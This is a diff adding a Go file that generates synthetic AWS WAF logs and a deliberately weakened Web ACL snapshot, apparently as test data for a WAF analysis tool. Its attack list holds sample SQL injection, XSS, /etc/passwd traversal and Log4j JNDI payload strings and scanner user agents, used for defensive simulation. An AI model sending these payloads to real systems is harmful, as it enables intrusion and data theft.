@@ -0,0 +1,331 @@
+package analysis
+
+import (
+	"bufio"
+	"compress/gzip"
+	"encoding/json"
+	"fmt"
+	"io"
+	"math/rand"
+	"os"
+	"path/filepath"
+	"strings"
+	"time"
+)
+
+// SyntheticOptions configure generated WAF logs
+type SyntheticOptions struct {
+	Records     int           // Records to generate
+	ClientIPs   int           // Distinct client IPs; a few of them send most requests
+	URIs        int           // Distinct URIs, also skewed
+	Hosts       int           // Distinct Host headers
+	AttackShare float64       // Share of requests that are attacks or scanner probes
+	Start       time.Time     // Timestamp of the first record
+	Duration    time.Duration // Period the records are spread over, one log file per hour
+	Seed        int64         // The same seed generates the same logs
+	WebACLName  string        // Name of the Web ACL in the records' webaclId (default: synthetic)
+}
+
+// syntheticAttack is an attack the generator mixes into normal traffic
+type syntheticAttack struct {
+	ruleGroup string
+	ruleID    string
+	uri       string
+	args      string
+	userAgent string
+}
+
+var syntheticAttacks = []syntheticAttack{
+	{"AWS#AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS", "/products", "id=1%27%20OR%20%271%27=%271", "Mozilla/5.0"},
+	{"AWS#AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS", "/search", "q=1%20UNION%20SELECT%20password", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
+	{"AWS#AWSManagedRulesCommonRuleSet", "CrossSiteScripting_QUERYARGUMENTS", "/search", "q=%3Cscript%3Ealert(1)%3C/script%3E", "Mozilla/5.0"},
+	{"AWS#AWSManagedRulesCommonRuleSet", "GenericLFI_URIPATH", "/static/../../etc/passwd", "", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"},
+	{"AWS#AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_HEADER", "/", "", "${jndi:ldap://x.oast.fun/a}"},
+	{"AWS#AWSManagedRulesCommonRuleSet", "NoUserAgent_HEADER", "/wp-login.php", "", ""},
+	{"AWS#AWSManagedRulesAdminProtectionRuleSet", "AdminProtection_URIPATH", "/admin", "", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"},
+}
+
+var syntheticCountries = []string{"US", "DE", "GB", "VN", "JP", "FR", "IN", "BR", "SG", "NL"}
+
+var syntheticUserAgents = []string{
+	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
+	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
+	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
+	"okhttp/4.12.0",
+}
+
+// SyntheticGenerator generates realistic WAF log records with skewed client IP and
+// URI distributions, a mix of managed rule group blocks, COUNT matches and logins
+type SyntheticGenerator struct {
+	opts  SyntheticOptions
+	rng   *rand.Rand
+	ips   *rand.Zipf
+	uris  *rand.Zipf
+	paths []string
+}
+
+// NewSyntheticGenerator returns a generator; zero options get small defaults
+func NewSyntheticGenerator(opts SyntheticOptions) *SyntheticGenerator {
+	if opts.ClientIPs < 2 {
+		opts.ClientIPs = 2
+	}
+	if opts.URIs < 2 {
+		opts.URIs = 2
+	}
+	if opts.Hosts < 1 {
+		opts.Hosts = 1
+	}
+	if opts.Duration <= 0 {
+		opts.Duration = time.Hour
+	}
+	if opts.WebACLName == "" {
+		opts.WebACLName = "synthetic"
+	}
+	if opts.Start.IsZero() {
+		opts.Start = time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
+	}
+	rng := rand.New(rand.NewSource(opts.Seed))
+	g := &SyntheticGenerator{
+		opts: opts,
+		rng:  rng,
+		ips:  rand.NewZipf(rng, 1.1, 1, uint64(opts.ClientIPs-1)),
+		uris: rand.NewZipf(rng, 1.1, 1, uint64(opts.URIs-1)),
+	}
+	bases := []string{"/", "/login", "/api/v1/items/%d", "/api/v1/users/%d/orders", "/products/%d", "/static/js/app.%d.js", "/search", "/cart"}
+	for i := 0; i < opts.URIs; i++ {
+		base := bases[i%len(bases)]
+		switch {
+		case !strings.Contains(base, "%d"):
+			g.paths = append(g.paths, base)
+		case i < len(bases):
+			g.paths = append(g.paths, fmt.Sprintf(base, 1))
+		default:
+			g.paths = append(g.paths, fmt.Sprintf(base, i))
+		}
+	}
+	return g
+}
+
+// Record returns the i-th of n records, whose timestamps are spread evenly over
+// the configured period
+func (g *SyntheticGenerator) Record(i, n int) *Record {
+	ts := g.opts.Start.Add(time.Duration(int64(g.opts.Duration) / int64(n) * int64(i)))
+	ipIndex := int(g.ips.Uint64())
+	host := fmt.Sprintf("app%d.example.com", ipIndex%g.opts.Hosts)
+	r := &Record{
+		Timestamp:           ts.UnixMilli(),
+		FormatVersion:       1,
+		WebACLID:            syntheticWebACLARN(g.opts.WebACLName),
+		TerminatingRuleID:   "Default_Action",
+		TerminatingRuleType: "REGULAR",
+		Action:              "ALLOW",
+		HTTPSourceName:      "CF",
+		HTTPSourceID:        "E2SYNTHETIC",
+		HTTPRequest: HTTPRequest{
+			ClientIP:    fmt.Sprintf("10.%d.%d.%d", ipIndex>>16&255, ipIndex>>8&255, ipIndex&255),
+			Country:     syntheticCountries[ipIndex%len(syntheticCountries)],
+			URI:         g.paths[g.uris.Uint64()],
+			HTTPVersion: "HTTP/2.0",
+			HTTPMethod:  "GET",
+			RequestID:   fmt.Sprintf("synthetic-%d-%d", g.opts.Seed, i),
+			Host:        host,
+		},
+	}
+	userAgent := syntheticUserAgents[ipIndex%len(syntheticUserAgents)]
+
+	switch roll := g.rng.Float64(); {
+	case roll < g.opts.AttackShare:
+		attack := syntheticAttacks[g.rng.Intn(len(syntheticAttacks))]
+		r.HTTPRequest.URI, r.HTTPRequest.Args, userAgent = attack.uri, attack.args, attack.userAgent
+		r.TerminatingRuleID, r.TerminatingRuleType, r.Action = attack.ruleGroup, "MANAGED_RULE_GROUP", "BLOCK"
+		r.RuleGroupList = []RuleGroup{{
+			RuleGroupID:     attack.ruleGroup,
+			TerminatingRule: &MatchingRule{RuleID: attack.ruleID, Action: "BLOCK"},
+		}}
+		r.Labels = []Label{{Name: "awswaf:managed:aws:" + attack.ruleID}}
+	case roll < g.opts.AttackShare*1.5:
+		// Matched in COUNT mode and allowed, as with rules excluded from a rule group
+		r.RuleGroupList = []RuleGroup{{
+			RuleGroupID:   "AWS#AWSManagedRulesCommonRuleSet",
+			ExcludedRules: []MatchingRule{{RuleID: "SizeRestrictions_BODY", Action: "EXCLUDED_AS_COUNT"}},
+		}}
+		r.HTTPRequest.HTTPMethod = "POST"
+	case r.HTTPRequest.URI == "/login":
+		r.HTTPRequest.HTTPMethod = "POST"
+	}
+
+	r.HTTPRequest.Headers = []Header{{Name: "host", Value: host}}
+	if userAgent != "" {
+		r.HTTPRequest.Headers = append(r.HTTPRequest.Headers, Header{Name: "user-agent", Value: userAgent})
+	}
+	r.HTTPRequest.Headers = append(r.HTTPRequest.Headers,
+		Header{Name: "accept", Value: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
+		Header{Name: "accept-encoding", Value: "gzip, deflate, br"},
+		Header{Name: "accept-language", Value: "en-US,en;q=0.9"},
+	)
+	return r
+}
+
+// WriteSyntheticLogs writes generated logs below dir in the retrieved layout, one
+// gzipped newline-delimited file per hour, and returns the files and their total size
+func WriteSyntheticLogs(dir string, opts SyntheticOptions) ([]string, int64, error) {
+	g := NewSyntheticGenerator(opts)
+	opts = g.opts
+
+	var files []string
+	var size int64
+	var current string
+	var file *os.File
+	var gz *gzip.Writer
+	var w *bufio.Writer
+	closeFile := func() error {
+		if file == nil {
+			return nil
+		}
+		err := w.Flush()
+		if err == nil {
+			err = gz.Close()
+		}
+		if closeErr := file.Close(); err == nil {
+			err = closeErr
+		}
+		if err != nil {
+			return fmt.Errorf("failed to write synthetic log: %w", err)
+		}
+		info, err := os.Stat(current)
+		if err != nil {
+			return fmt.Errorf("failed to write synthetic log: %w", err)
+		}
+		size += info.Size()
+		file = nil
+		return nil
+	}
+
+	for i := 0; i < opts.Records; i++ {
+		r := g.Record(i, opts.Records)
+		t := r.Time()
+		path := filepath.Join(dir, t.Format("2006/01/02/15"), fmt.Sprintf("synthetic_%s.log.gz", t.Format("20060102_15")))
+		if path != current {
+			if err := closeFile(); err != nil {
+				return nil, 0, err
+			}
+			if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+				return nil, 0, fmt.Errorf("failed to create synthetic log directory: %w", err)
+			}
+			f, err := os.Create(path)
+			if err != nil {
+				return nil, 0, fmt.Errorf("failed to create synthetic log: %w", err)
+			}
+			file, current = f, path
+			gz = gzip.NewWriter(f)
+			w = bufio.NewWriter(gz)
+			files = append(files, path)
+		}
+		if err := writeJSONLine(w, r); err != nil {
+			return nil, 0, err
+		}
+	}
+	if err := closeFile(); err != nil {
+		return nil, 0, err
+	}
+	return files, size, nil
+}
+
+// syntheticWebACLARN returns the ARN of the synthetic Web ACL of a name
+func syntheticWebACLARN(name string) string {
+	return fmt.Sprintf("arn:aws:wafv2:us-east-1:123456789012:global/webacl/%s/00000000-0000-0000-0000-000000000000", name)
+}
+
+// syntheticManagedRule returns a rule of the synthetic Web ACL using an AWS managed
+// rule group, with rules of the group overridden to Count
+func syntheticManagedRule(group string, priority int, overrideAction string, countRules ...string) map[string]interface{} {
+	statement := map[string]interface{}{"VendorName": "AWS", "Name": group}
+	if len(countRules) > 0 {
+		var overrides []interface{}
+		for _, rule := range countRules {
+			overrides = append(overrides, map[string]interface{}{"Name": rule, "ActionToUse": map[string]interface{}{"Count": map[string]interface{}{}}})
+		}
+		statement["RuleActionOverrides"] = overrides
+	}
+	return map[string]interface{}{
+		"Name":             "AWS-" + group,
+		"Priority":         float64(priority),
+		"Statement":        map[string]interface{}{"ManagedRuleGroupStatement": statement},
+		"OverrideAction":   map[string]interface{}{overrideAction: map[string]interface{}{}},
+		"VisibilityConfig": syntheticVisibility("AWS-" + group),
+	}
+}
+
+// syntheticVisibility returns the visibility configuration of a synthetic rule
+func syntheticVisibility(metric string) map[string]interface{} {
+	return map[string]interface{}{"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": metric}
+}
+
+// SyntheticSnapshot returns a Web ACL snapshot, in the layout retrieval saves, of a
+// CloudFront Web ACL whose rules match the generated logs. It leaves gaps for the
+// analysis to find: SizeRestrictions_BODY overridden to Count, the IP reputation
+// list only counting and a loose rate limit.
+func SyntheticSnapshot(name string, capturedAt time.Time) map[string]interface{} {
+	arn := syntheticWebACLARN(name)
+	rules := []interface{}{
+		syntheticManagedRule("AWSManagedRulesAmazonIpReputationList", 0, "Count"),
+		syntheticManagedRule("AWSManagedRulesCommonRuleSet", 1, "None", "SizeRestrictions_BODY"),
+		syntheticManagedRule("AWSManagedRulesKnownBadInputsRuleSet", 2, "None"),
+		syntheticManagedRule("AWSManagedRulesSQLiRuleSet", 3, "None"),
+		syntheticManagedRule("AWSManagedRulesAdminProtectionRuleSet", 4, "None"),
+		map[string]interface{}{
+			"Name":     "rate-limit-per-ip",
+			"Priority": float64(5),
+			"Statement": map[string]interface{}{"RateBasedStatement": map[string]interface{}{
+				"Limit": float64(10000), "EvaluationWindowSec": float64(300), "AggregateKeyType": "IP",
+			}},
+			"Action":           map[string]interface{}{"Block": map[string]interface{}{}},
+			"VisibilityConfig": syntheticVisibility("rate-limit-per-ip"),
+		},
+	}
+	capacities := map[string]interface{}{
+		"AWS-AWSManagedRulesAmazonIpReputationList": float64(25),
+		"AWS-AWSManagedRulesCommonRuleSet":          float64(700),
+		"AWS-AWSManagedRulesKnownBadInputsRuleSet":  float64(200),
+		"AWS-AWSManagedRulesSQLiRuleSet":            float64(200),
+		"AWS-AWSManagedRulesAdminProtectionRuleSet": float64(100),
+		"rate-limit-per-ip":                         float64(2),
+	}
+	var total float64
+	for _, wcu := range capacities {
+		total += wcu.(float64)
+	}
+	return map[string]interface{}{
+		"capturedAt": capturedAt.UTC().Format(time.RFC3339),
+		"scope":      "CLOUDFRONT",
+		"region":     "us-east-1",
+		"webACL": map[string]interface{}{
+			"Name":             name,
+			"Id":               "00000000-0000-0000-0000-000000000000",
+			"ARN":              arn,
+			"DefaultAction":    map[string]interface{}{"Allow": map[string]interface{}{}},
+			"Rules":            rules,
+			"Capacity":         total,
+			"VisibilityConfig": syntheticVisibility(name),
+		},
+		"associatedResources": []interface{}{map[string]interface{}{
+			"resourceType": "CLOUDFRONT_DISTRIBUTION",
+			"arn":          "arn:aws:cloudfront::123456789012:distribution/E2SYNTHETIC",
+		}},
+		"ruleSetCapacity": total,
+		"ruleCapacities":  capacities,
+	}
+}
+
+// writeJSONLine writes a value as one line of JSON
+func writeJSONLine(w io.Writer, v interface{}) error {
+	data, err := json.Marshal(v)
+	if err != nil {
+		return fmt.Errorf("failed to encode synthetic record: %w", err)
+	}
+	data = append(data, '\n')
+	if _, err := w.Write(data); err != nil {
+		return fmt.Errorf("failed to write synthetic log: %w", err)
+	}
+	return nil
+}